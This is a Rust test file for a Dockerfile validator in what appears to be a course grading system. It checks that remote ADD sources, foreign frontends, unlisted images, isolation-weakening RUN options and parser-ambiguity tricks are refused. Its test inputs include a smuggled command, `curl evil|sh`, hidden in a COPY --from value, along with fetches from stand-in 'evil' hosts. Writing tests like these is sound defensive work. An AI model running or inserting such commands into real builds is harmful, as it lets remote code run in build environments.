use super::*;
use proptest::prelude::*;

fn allowed() -> Allowed {
    Allowed::new(["busybox:1.36", "python:3.11-slim"])
}

fn found(text: &str) -> Vec<(usize, String)> {
    let refusals = refusals("Dockerfile", text, &BTreeMap::new(), &allowed());
    refusals.into_iter().map(|refusal| (refusal.line, refusal.what)).collect()
}

#[track_caller]
fn refused(text: &str, line: usize, what: &str) {
    let found = found(text);
    assert!(found.iter().any(|(at, said)| *at == line && said.contains(what)), "{text:?}: {found:?}");
}

#[track_caller]
fn fine(text: &str) {
    assert_eq!(found(text), [], "{text:?}");
}

#[test]
fn ordinary_answers_are_built() {
    fine("FROM busybox:1.36\nCOPY . /site\nRUN --network=none true\n");
    fine("FROM docker.io/library/busybox:1.36\n");
    fine(
        "# a comment\n# check=skip=all\nARG V=3.11-slim\nFROM python:${V} AS b\nFROM scratch\nCOPY --from=b /a /b\nCOPY --from=0 /a /b\n",
    );
    fine("FROM busybox:1.36 AS B\nFROM b\nRUN --mount=type=bind,from=B,target=/x --mount=type=cache,target=/c true\n");
    fine("FROM busybox:1.36\nARG LIST=deps.txt\nENV NAME=$LIST\nADD $NAME ${LIST:-x} local.tar.gz /app/\n");
    fine("FROM busybox:1.36\nCOPY <<EOF /app.py\nfrom flask import Flask\nADD http://x /\nEOF\n");
    fine("FROM --platform=$BUILDPLATFORM busybox:1.36\nARG TARGETARCH\nCOPY bin-$TARGETARCH /bin/x\n");
    fine("FROM busybox:1.36\nRUN echo 'ADD http://x /' && echo FROM evil\nLABEL a=\"FROM evil\"\n");
}

#[test]
fn every_right_answer_of_the_course_is_built() {
    let course = crate::course::Course::load(&crate::course::Source::Embedded).unwrap();
    // A name with a drawn port is that of a registry which the learner runs: nothing of it can be built anywhere else.
    let is_drawn = |name: &String| name.contains("{{");
    for entry in course.exercises.values().filter(|entry| !entry.exercise.images.values().any(is_drawn)) {
        let allowed = crate::grade::judge::allowed(entry, &[]);
        let images = &entry.exercise.images;
        let names = images.iter().map(|(alias, name)| (format!("image.{alias}"), name.clone())).collect();
        for (path, content) in entry.files.iter().filter(|(path, _)| path.ends_with("Dockerfile")) {
            if path.contains("right/") || path.contains("solution/") {
                let text = crate::course::fill(&String::from_utf8_lossy(content), &names);
                assert_eq!(refusals(path, &text, &BTreeMap::new(), &allowed), [], "{path}");
            }
        }
    }
}

#[test]
fn another_frontend_is_found_wherever_buildkit_looks_for_it() {
    for head in [
        "# syntax=docker/dockerfile:1\n",
        "#syntax = evil/x\n",
        "#   SYNTAX=evil\n",
        "\u{feff}# syntax=evil\n",
        "// syntax=evil\n",
    ] {
        refused(&format!("{head}FROM busybox:1.36\n"), 1, "frontend");
    }
    refused("#!/usr/bin/env x\n# syntax=evil\nFROM busybox:1.36\n", 2, "frontend");
    refused("# other=1\n# syntax=evil\nFROM busybox:1.36\n", 2, "frontend");
    refused("{\"syntax\": \"evil\"}\n", 1, "frontend");
    fine("FROM busybox:1.36\n# syntax=evil\n");
    fine("# The syntax = of this file\nFROM busybox:1.36\n");
}

#[test]
fn add_of_something_remote_is_found() {
    for source in [
        "http://a/b",
        "HTTPS://a/b",
        "ftp://a/b",
        "git@github.com:a/b.git",
        "ssh://git@a/b",
        "https://github.com/a/b.git#main:x",
        "github.com/a/b",
        "ada@host:repo.git",
    ] {
        refused(&format!("FROM busybox:1.36\nADD {source} /x\n"), 2, "ADD fetches");
        refused(&format!("FROM busybox:1.36\nADD [\"a\", \"{source}\", \"/x/\"]\n"), 2, "ADD fetches");
        refused(&format!("FROM busybox:1.36\nONBUILD ADD {source} /x\n"), 2, "ADD fetches");
        refused(&format!("FROM busybox:1.36\nADD --checksum=sha256:0 --keep-git-dir \\\n {source} /x\n"), 2, "ADD");
    }
}

#[test]
fn a_variable_hides_nothing() {
    let one = |rest: &str| format!("FROM busybox:1.36\n{rest}");
    refused(&one("ENV U=http://a\nADD $U/x /\n"), 3, "ADD fetches http://a/x");
    refused(&one("ARG P=ht\nADD ${P}tp://a /\n"), 3, "ADD fetches http://a");
    refused(&one("ARG U=local\nADD ${U:+http://a} /\n"), 3, "ADD fetches");
    refused(&one("ARG U=local\nADD ${U:-http://a} /\n"), 3, "ADD fetches");
    // The classic builder and BuildKit differ in which of the two counts.
    refused(&one("ENV U=http://a\nARG U=local\nADD $U /\n"), 4, "ADD fetches");
    refused(&one("ENV A=http://a\nENV B=$A\nADD $B /\n"), 4, "ADD fetches");
    // A base image may set it.
    refused(&one("ADD $PYTHON_GET_PIP_URL /\n"), 2, "not known here");
    refused(&one("ARG U\nADD $U /\n"), 3, "not known here");
    refused(&one("ENV A=$A/x\nADD $A /\n"), 3, "not known here");
    refused("ARG B=evil\nFROM $B\n", 2, "evil");
    refused("ARG R=registry.example/\nARG B=${R}x:1\nFROM ${B}\n", 3, "registry.example/x:1");
    refused("FROM $NOTHING\n", 1, "not known here");
    refused("FROM ${NOTHING:-evil}\n", 1, "evil");
    refused("FROM busybox:1.36\nARG I=evil\nRUN --mount=type=bind,from=$I,target=/x true\n", 3, "evil");
}

#[test]
fn images_that_the_exercise_does_not_use_are_found() {
    refused("FROM busybox\n", 1, "names busybox,");
    refused("FROM evil/busybox:1.36\n", 1, "evil/busybox:1.36");
    refused(
        "FROM busybox:1.36@sha256:0000000000000000000000000000000000000000000000000000000000000000\n",
        1,
        "@sha256",
    );
    refused("FROM later\nFROM busybox:1.36 AS later\n", 1, "later");
    refused("FROM busybox:1.36\nCOPY --from=evil /a /b\n", 2, "COPY --from names evil");
    refused("FROM busybox:1.36\nCOPY --from=7 /a /b\n", 2, "COPY --from names 7");
    refused("FROM busybox:1.36\nONBUILD COPY --from=evil /a /b\n", 2, "evil");
    refused("FROM busybox:1.36\nCOPY --from=$X /a /b\n", 2, "not known");
    refused("FROM busybox:1.36\nRUN --mount=from=evil,target=/x true\n", 2, "RUN --mount names evil");
    refused("FROM busybox:1.36\nRUN --mount=type=cache,FROM=evil,target=/x true\n", 2, "evil");
    refused("FROM busybox:1.36\nRUN --mount='type=bind,\"from=evil\",target=/x' true\n", 2, "quotes");
}

#[test]
fn options_that_weaken_the_wall_are_found() {
    refused("FROM busybox:1.36\nRUN --network=host true\n", 2, "--network=host");
    refused("FROM busybox:1.36\nRUN --security=insecure true\n", 2, "--security=insecure");
    refused("FROM busybox:1.36\nRUN --security=$X true\n", 2, "--security");
    refused("FROM busybox:1.36\nRUN --device=vendor.com/gpu true\n", 2, "--device");
    refused("FROM busybox:1.36\nONBUILD RUN --network=host true\n", 2, "--network=host");
}

#[test]
fn what_is_a_document_to_one_builder_and_instructions_to_another_is_found() {
    // An old builder sees RUN, ADD, RUN; a newer one a script.
    refused("FROM busybox:1.36\nRUN <<\"RUN true\"\nADD http://a /x\nRUN true\n", 3, "ADD fetches");
    // And the other way round.
    refused("FROM busybox:1.36\nRUN <<EOF\ntrue\nEOF\nADD http://a /x\n", 5, "ADD fetches");
}

#[test]
fn build_arguments_of_the_step_count() {
    let args = BTreeMap::from([("B".to_owned(), "evil".to_owned())]);
    let found = refusals("Dockerfile", "ARG B=busybox:1.36\nFROM $B\n", &args, &allowed());
    assert!(found[0].what.contains("evil") && found[0].help.contains("busybox:1.36"), "{found:?}");
}

#[test]
fn used_images_are_known() {
    let used = images("ARG V=1.36\nFROM busybox:$V AS a\nFROM a\nCOPY --from=nginx:alpine /x /y\n", &BTreeMap::new());
    assert_eq!(used, BTreeSet::from(["busybox:1.36".to_owned(), "nginx:alpine".to_owned()]));
}

proptest! {
    #[test]
    fn no_text_makes_it_panic_and_every_line_exists(text in "(FROM|ADD|ARG|RUN|COPY|ENV|[A-Z$ {}:=<\\n\\\\'\"#/-]|--from=|--mount=){0,60}") {
        for refusal in refusals("Dockerfile", &text, &BTreeMap::new(), &allowed()) {
            prop_assert!(refusal.line >= 1 && refusal.line <= text.split('\n').count(), "{refusal:?}");
        }
    }

    #[test]
    fn a_foreign_base_is_found_behind_any_harmless_lines(lines in proptest::collection::vec("(ENV A=b|RUN true|COPY a b|LABEL x=y)", 0..6)) {
        let text = format!("FROM busybox:1.36\n{}\nFROM evil/x\n", lines.join("\n"));
        prop_assert!(found(&text).iter().any(|(_, what)| what.contains("evil/x")));
    }
}

#[test]
fn what_builders_could_read_in_two_ways_is_not_built() {
    refused("# escape\u{a0}=`\nFROM busybox:1.36\nRUN true #`\nADD https://evil /x\n", 1, "escape");
    refused("# escape=`\nFROM busybox:1.36\n", 1, "escape");
    refused("FROM busybox:1.36\nCOPY --link\u{a0}--from=evil a /\n", 2, "outside ASCII");
    refused("FROM busybox:1.36\nRUN --mount=type=tmpfs,target=/à--network=host true\n", 2, "outside ASCII");
    refused("FROM busybox:1.36\nADD [\"http\\u003a//evil/x\", \"/\\ud800\"]\n", 2, "brackets");
    refused("FROM busybox:1.36\nONBU\u{130}LD ADD http://evil /x\n", 2, "other letters");
    fine("# escape=\\\nFROM busybox:1.36\nRUN echo 'à la carte' > /menü\nCOPY [\"a b\", \"/c/\"]\n");
}

#[test]
fn a_small_text_cannot_ask_for_gigabytes() {
    let value = format!("http://{}", "x".repeat(1000));
    let mut text = "FROM busybox:1.36\n".to_owned();
    text.extend((0..60).map(|number| format!("ENV X={value}{number}\n")));
    text.extend((0..700).map(|_| format!("ADD {} /\n", "$X".repeat(128))));
    let refusals = refusals("Dockerfile", &text, &BTreeMap::new(), &allowed());
    assert!(!refusals.is_empty() && refusals.len() <= MOST, "{}", refusals.len());
    let bytes: usize = refusals.iter().map(|refusal| refusal.what.len() + refusal.help.len()).sum();
    assert!(bytes < 64 << 10, "{bytes}");
}

#[test]
fn only_what_is_an_images_name_is_offered_to_be_allowed() {
    let text = "FROM busybox:1.36\nCOPY --from='x;curl evil|sh' a b\nFROM nginx:alpine\n";
    let refusals = refusals("Dockerfile", text, &BTreeMap::new(), &allowed());
    let images: Vec<&str> = refusals.iter().filter_map(|refusal| refusal.image.as_deref()).collect();
    assert_eq!(images, ["nginx:alpine"], "{refusals:?}");
}
